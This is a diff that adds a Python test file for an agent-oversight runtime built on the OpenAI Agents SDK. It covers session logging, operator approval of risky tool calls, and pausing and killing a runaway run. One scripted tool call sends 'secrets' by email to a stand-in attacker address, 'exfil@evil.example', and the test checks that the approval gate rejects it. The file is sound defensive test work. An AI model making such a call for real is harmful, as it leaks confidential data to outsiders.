@@ -1,0 +1,121 @@
+"""A real OpenAI Agents SDK agent (only the model faked: the SDK's ScriptedModel, no network)
+under quell through `quell_agent.openai_agents.run`, driven by the real quell binary."""
+
+import asyncio
+import json
+import os
+import threading
+import time
+
+os.environ.setdefault("OPENAI_AGENTS_DISABLE_TRACING", "1")  # no exporter: the tests have no network
+
+import pytest
+from agents import Agent, function_tool
+from agents.testing import ScriptedModel, assistant_message, function_call
+
+from quell_agent import EmbeddedStore, Killed, Runtime
+from quell_agent.openai_agents import run
+from test_embedded_runtime import quell, sessions, wait_for
+
+SENT = []
+
+
+@function_tool
+def crm_lookup(customer: str) -> str:
+    """Looks a customer up."""
+    return f"{customer}: premium"
+
+
+@function_tool(needs_approval=True)
+def send_email(to: str, body: str) -> str:
+    """Sends an e-mail."""
+    SENT.append(to)
+    return f"sent to {to}"
+
+
+def replay(store, sid):
+    return [json.loads(x) for x in quell(store, "replay", sid, "-o", "json").stdout.splitlines()]
+
+
+@pytest.fixture
+def store(tmp_path):
+    return tmp_path / "quell.db"
+
+
+def test_a_run_is_a_verified_quell_session_with_llm_and_tool_entries(store):
+    model = ScriptedModel([[function_call("crm_lookup", {"customer": "ACME"}, call_id="c1")],
+                           [assistant_message("ACME is premium.")]])
+    agent = Agent(name="support-agent", instructions="help", model=model, tools=[crm_lookup])
+    with Runtime(EmbeddedStore(store)) as rt:
+        result = asyncio.run(run(agent, "who is ACME?", runtime=rt, session_id="conv-1", model="scripted"))
+    assert result.final_output == "ACME is premium."
+    listed = sessions(store)["conv-1"]
+    assert listed["agent"] == "support-agent" and listed["state"] == "finished" and listed["tools"] == ["crm_lookup"]
+    events = replay(store, "conv-1")
+    kinds = [e["kind"] for e in events]
+    assert kinds == ["session_started", "llm_call", "checkpoint", "tool_call", "tool_result", "llm_call",
+                     "checkpoint", "session_ended"]
+    llm = events[1]
+    assert llm["tool_calls"] == [{"gen_ai.tool.name": "crm_lookup", "gen_ai.tool.call.arguments": {"customer": "ACME"}}]
+    assert "who is ACME" not in json.dumps(events), "never the raw input"
+    assert quell(store, "verify").returncode == 0
+
+
+def test_the_sdks_approval_interruption_is_decided_in_quell(store):
+    SENT.clear()
+    model = ScriptedModel([
+        [function_call("send_email", {"to": "ok@example.com", "body": "hi"}, call_id="c1")],
+        [assistant_message("sent")],
+        [function_call("send_email", {"to": "exfil@evil.example", "body": "secrets"}, call_id="c2")],
+        [assistant_message("not sent")],
+    ])
+    agent = Agent(name="mail-agent", instructions="mail", model=model, tools=[send_email])
+    with Runtime(EmbeddedStore(store)) as rt:
+        for conv, verb in (("conv-ok", "approve"), ("conv-bad", "reject")):
+            out = {}
+            t = threading.Thread(target=lambda c=conv: out.update(r=asyncio.run(
+                run(agent, "mail", runtime=rt, session_id=c, risk={"send_email": "critical"}))))
+            t.start()
+            pending = []
+
+            def asked():
+                pending[:] = json.loads(quell(store, "approvals", "-o", "json").stdout)
+                return bool(pending)
+
+            wait_for("the approval request", asked)
+            assert pending[0]["session_id"] == conv and pending[0]["risk"] == "critical"
+            assert pending[0]["arguments"]["to"] in ("ok@example.com", "exfil@evil.example")
+            quell(store, verb, pending[0]["id"], "--reason", "on-call decided")
+            t.join(60)
+            assert not t.is_alive() and "r" in out
+    assert SENT == ["ok@example.com"]
+    decided = [e["attributes"]["quell.approval.status"] for e in replay(store, "conv-bad")
+               if e["kind"] == "approval_decided"]
+    assert decided == ["rejected"]
+    assert quell(store, "verify").returncode == 0
+
+
+def test_pause_holds_the_run_and_kill_stops_it(store):
+    steps = [[function_call("crm_lookup", {"customer": f"c{i}"}, call_id=f"c{i}")] for i in range(400)]
+    model = ScriptedModel(steps)
+    agent = Agent(name="research-agent", instructions="loop", model=model, tools=[crm_lookup])
+    outcome = {}
+    with Runtime(EmbeddedStore(store)) as rt:
+        def go():
+            try:
+                asyncio.run(run(agent, "research", runtime=rt, session_id="conv-loop", max_turns=1000))
+            except Killed as e:
+                outcome["killed"] = str(e)
+
+        t = threading.Thread(target=go)
+        t.start()
+        wait_for("a few steps", lambda: sessions(store).get("conv-loop", {}).get("step", 0) >= 3)
+        assert "1 acknowledged" in quell(store, "pause", "conv-loop", "--reason", "runaway", "--wait", "10").stdout
+        held = sessions(store)["conv-loop"]["step"]
+        time.sleep(0.5)
+        assert sessions(store)["conv-loop"]["step"] == held, "no step while paused"
+        quell(store, "kill", "conv-loop", "--reason", "loop", "--wait", "10")
+        t.join(60)
+    assert "killed by an operator" in outcome.get("killed", "")
+    assert sessions(store)["conv-loop"]["state"] == "killed"
+    assert quell(store, "verify").returncode == 0
